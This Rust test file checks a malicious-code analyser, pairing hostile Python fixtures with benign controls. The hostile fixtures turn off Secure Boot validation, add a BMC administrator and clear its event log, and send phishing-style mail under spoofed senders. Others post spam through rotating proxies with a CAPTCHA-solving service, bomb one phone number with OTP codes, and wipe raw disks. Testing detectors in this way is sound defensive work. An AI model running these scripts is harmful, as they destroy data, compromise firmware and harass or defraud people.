//! Behaviour tests for the eighteenth round (what the held-out misses and
//! false positives showed: firmware rewritten with its checks off and BMC
//! administrators added with the event log wiped, mail under random
//! senders through servers that change, comment spam through rotating
//! proxies with CAPTCHAs solved by a service, one number flooded with
//! verification codes, raw devices opened for writing through a flags
//! variable, blkdiscard; and, the other way, a history rewritten after
//! asking, a notifier posting build facts to a webhook the environment
//! names, `python -m pip install` of downloaded wheels), spelled unlike
//! the corpus, each with a control. Every malicious case is misjudged by
//! the analyser at 86955fd; for the three spared behaviours it is the
//! benign case that 86955fd flags.

use super::behaviour_tests::{rules, run};
use super::Verdict;

/// Boot order changed and Secure Boot's validation switched off
/// (86955fd: HIGH at most, each command an administration command).
#[test]
fn boot_order_changed_with_secure_boot_validation_off() {
    let src = r#"import subprocess
def sh(argv):
    return subprocess.call(argv)
sh(["efibootmgr", "--create", "--disk", "/dev/nvme0n1", "--loader", "\\EFI\\rk\\shim.efi", "--label", "Recovery"])
sh(["efibootmgr", "--bootorder", "0007,0000"])
subprocess.run(["mokutil", "--disable-validation"], input="pw\npw\n", text=True)
"#;
    let a = run(src);
    assert!(rules(&a).contains(&"MB968"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
}

/// A BMC account raised to administrator and the event log cleared, the
/// commands handed to a helper word by word (86955fd: MEDIUM at most).
#[test]
fn bmc_administrator_added_and_event_log_cleared() {
    let src = r#"import subprocess
def bmc(*words):
    subprocess.run(["/usr/bin/ipmitool", "-I", "open", *words], check=False)
bmc("user", "set", "name", "9", "svc")
bmc("user", "set", "password", "9", "hunter22")
bmc("user", "priv", "9", "4", "1")
bmc("sel", "clear")
"#;
    let a = run(src);
    assert!(rules(&a).contains(&"MB968"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
}

/// Firmware inventory: the flash read, boot entries and Secure Boot's
/// state listed, sensors and the event log read.
#[test]
fn firmware_inventory_reader_is_not_tampering() {
    let src = r#"import subprocess
def out(*argv):
    return subprocess.run(list(argv), capture_output=True, text=True).stdout
print(out("flashrom", "-p", "internal", "-r", "/var/backups/bios.rom"))
print(out("efibootmgr", "-v"))
print(out("mokutil", "--sb-state"))
def bmc(*words):
    return subprocess.run(["ipmitool", *words], capture_output=True, text=True).stdout
print(bmc("sdr", "list"))
print(bmc("sel", "list"))
"#;
    let a = run(src);
    assert!(!rules(&a).contains(&"MB968"), "{:?}", a.findings);
    assert!(a.verdict < Verdict::High, "{:?}", a.findings);
}

/// Mail sent from a loop through servers taken from a list, each message
/// claiming a sender picked at random (86955fd: LOW).
#[test]
fn mail_under_random_senders_through_changing_servers() {
    let src = r#"import random, smtplib, sys
from email.mime.text import MIMEText
IDENTITIES = ["IT Helpdesk <it@corp.example>", "Payroll <hr@corp.example>", "Bank Alerts <no-reply@bank.example>"]
SERVERS = ["192.0.2.10", "192.0.2.11"]
def mail(server, rcpt, text):
    m = MIMEText(text)
    m["Subject"] = "Action needed"
    m["From"] = random.choice(IDENTITIES)
    m["To"] = rcpt
    with smtplib.SMTP(server, 587) as s:
        s.send_message(m)
rcpts = open(sys.argv[1]).read().split()
for i, r in enumerate(rcpts):
    server = SERVERS[i % len(SERVERS)]
    for _ in range(3):
        m = MIMEText(open(sys.argv[2]).read())
        m["From"] = random.choice(IDENTITIES)
        m["To"] = r
        conn = smtplib.SMTP(server, 25)
        conn.send_message(m)
"#;
    let a = run(src);
    assert!(rules(&a).contains(&"MB969"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
}

/// A newsletter: one sender, one server, an unsubscribe link.
#[test]
fn newsletter_from_one_sender_is_not_spam() {
    let src = r#"import csv, smtplib
from email.message import EmailMessage
SENDER = "News <news@shop.example>"
with smtplib.SMTP("smtp.shop.example", 587) as s:
    s.starttls()
    for row in csv.DictReader(open("optin.csv")):
        msg = EmailMessage()
        msg["From"] = SENDER
        msg["To"] = row["email"]
        msg["Subject"] = "Our spring news"
        msg.set_content("Hello!\nUnsubscribe: https://shop.example/u?id=" + row["id"])
        s.send_message(msg)
"#;
    let a = run(src);
    assert!(!rules(&a).contains(&"MB969"), "{:?}", a.findings);
    assert!(a.verdict < Verdict::High, "{:?}", a.findings);
}

/// Posts through proxies picked at random, with a CAPTCHA solving
/// service asked for the answer (86955fd: below HIGH).
#[test]
fn posts_through_random_proxies_with_captchas_solved_by_a_service() {
    let src = r#"import random, requests
EXITS = ["http://203.0.113.7:8080", "http://203.0.113.9:8080"]
def answer(img):
    r = requests.post("https://api.capmonster.example/createTask", json={"image": img})
    return r.json().get("solution")
def post(url, text):
    p = random.choice(EXITS)
    page = requests.get(url, proxies={"https": p}).text
    img = page.split("captcha-img=")[-1][:64]
    requests.post(url, data={"body": text, "captcha": answer(img)}, proxies={"https": p})
for u in open("boards.txt").read().split():
    post(u, "cheap pills at https://pills.example")
"#;
    let a = run(src);
    assert!(rules(&a).contains(&"MB969"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
}

/// A crawler that backs off when it meets a CAPTCHA, through one
/// configured proxy.
#[test]
fn crawler_backing_off_at_a_captcha_is_not_spam() {
    let src = r#"import time, requests
PROXY = {"https": "http://proxy.corp.example:3128"}
for u in open("pages.txt").read().split():
    page = requests.get(u, proxies=PROXY, timeout=10).text
    if "captcha" in page.lower():
        print("blocked at", u, "- backing off")
        time.sleep(600)
        continue
    print(len(page))
"#;
    let a = run(src);
    assert!(!rules(&a).contains(&"MB969"), "{:?}", a.findings);
    assert!(a.verdict < Verdict::High, "{:?}", a.findings);
}

/// Three providers asked for codes to one number, round after round
/// (86955fd: LOW).
#[test]
fn one_number_asked_codes_from_several_providers_in_a_loop() {
    let src = r#"import sys, time, requests
ENDPOINTS = [
    "https://id.one.example/api/otp/send",
    "https://auth.two.example/v1/send-code",
    "https://app.three.example/account/request_code",
]
def ask(url, phone):
    return requests.post(url, json={"phone": phone}, timeout=5).ok
phone = sys.argv[1]
while True:
    for e in ENDPOINTS:
        ask(e, phone)
    time.sleep(1)
"#;
    let a = run(src);
    assert!(rules(&a).contains(&"MB970"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
}

/// A sign-up flow sends one code and checks it.
#[test]
fn one_code_sent_at_sign_up_is_not_bombing() {
    let src = r#"import requests
phone = input("phone: ")
requests.post("https://auth.example/v1/send-code", json={"phone": phone}, timeout=5)
code = input("code: ")
print(requests.post("https://auth.example/v1/check", json={"phone": phone, "code": code}).ok)
"#;
    let a = run(src);
    assert!(!rules(&a).contains(&"MB970"), "{:?}", a.findings);
    assert!(a.verdict < Verdict::High, "{:?}", a.findings);
}

/// A raw device opened with flags kept in a name (86955fd: not MB907).
#[test]
fn raw_device_opened_for_writing_through_a_flags_name() {
    let src = r#"import os
def clobber(dev):
    how = os.O_RDWR if os.path.exists(dev) else os.O_RDONLY
    fd = os.open(dev, how | os.O_DIRECT)
    os.write(fd, b"\0" * 1048576)
clobber("/dev/sda")
"#;
    let a = run(src);
    assert!(rules(&a).contains(&"MB907"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
}

/// The same device opened read-only through a flags name.
#[test]
fn raw_device_read_through_a_flags_name_is_not_destruction() {
    let src = r#"import os
def peek(dev):
    how = os.O_RDONLY
    fd = os.open(dev, how | os.O_NONBLOCK)
    print(os.read(fd, 512)[:16])
peek("/dev/sda")
"#;
    let a = run(src);
    assert!(!rules(&a).contains(&"MB907"), "{:?}", a.findings);
}

/// Every block of a device discarded (86955fd: not MB907).
#[test]
fn blkdiscard_erases_a_device() {
    let src = r#"import subprocess
subprocess.run(["blkdiscard", "-f", "/dev/nvme1n1"])
"#;
    let a = run(src);
    assert!(rules(&a).contains(&"MB907"), "{:?}", a.findings);
}

/// The user's own history rewritten without the lines holding a word,
/// after the user said yes (86955fd: MB923, BLOCKED).
#[test]
fn own_history_rewritten_after_asking_is_spared() {
    let src = r#"import os
def scrub(word):
    p = os.path.expanduser("~/.bash_history")
    keep = [l for l in open(p) if word not in l]
    if input("rewrite %s? " % p) == "yes":
        with open(p, "w") as fh:
            fh.writelines(keep)
scrub("hunter2")
"#;
    let a = run(src);
    assert!(!rules(&a).contains(&"MB923"), "{:?}", a.findings);
    assert!(a.verdict < Verdict::High, "{:?}", a.findings);
    // Without the question it is still erasing a history.
    let silent = src.replace("if input(\"rewrite %s? \" % p) == \"yes\":", "if True:");
    assert!(rules(&run(&silent)).contains(&"MB923"));
}

/// Build facts posted to a webhook named by the environment (86955fd:
/// MB421, HIGH); tokens posted the same way still count.
#[test]
fn build_facts_to_a_webhook_from_the_environment_are_spared() {
    let src = r#"import os, requests
env = os.environ
requests.post(env["TEAMS_HOOK"], json={"text": "%s %s %s %s" % (
    env.get("BUILD_ID"), env.get("GIT_BRANCH"), env.get("GIT_COMMIT"), env.get("BUILD_USER"))})
"#;
    let a = run(src);
    assert!(!rules(&a).contains(&"MB421"), "{:?}", a.findings);
    assert!(a.verdict < Verdict::High, "{:?}", a.findings);
    let tokens = src.replace("BUILD_USER", "NPM_TOKEN");
    assert!(rules(&run(&tokens)).contains(&"MB421"));
}

/// Downloaded wheels installed by `python -m pip` from a vector bound
/// first (86955fd: MB915, BLOCKED); the downloaded file run as the
/// program is still a dropper.
#[test]
fn downloaded_wheels_installed_by_pip_module_are_not_run() {
    let src = r#"import os, subprocess, sys, urllib.request
os.makedirs("wh", exist_ok=True)
got = []
for name in open("wheels.txt").read().split():
    dest = os.path.join("wh", name)
    urllib.request.urlretrieve(os.environ["MIRROR"] + name, dest)
    got.append(dest)
argv = [sys.executable, "-m", "pip", "install", "--no-index", *got]
subprocess.check_call(argv)
"#;
    let a = run(src);
    assert!(!rules(&a).contains(&"MB915"), "{:?}", a.findings);
    assert!(a.verdict < Verdict::Blocked, "{:?}", a.findings);
    let dropper = src.replace(
        "argv = [sys.executable, \"-m\", \"pip\", \"install\", \"--no-index\", *got]",
        "argv = [got[0], \"--quiet\"]",
    );
    assert!(rules(&run(&dropper)).contains(&"MB915"));
}
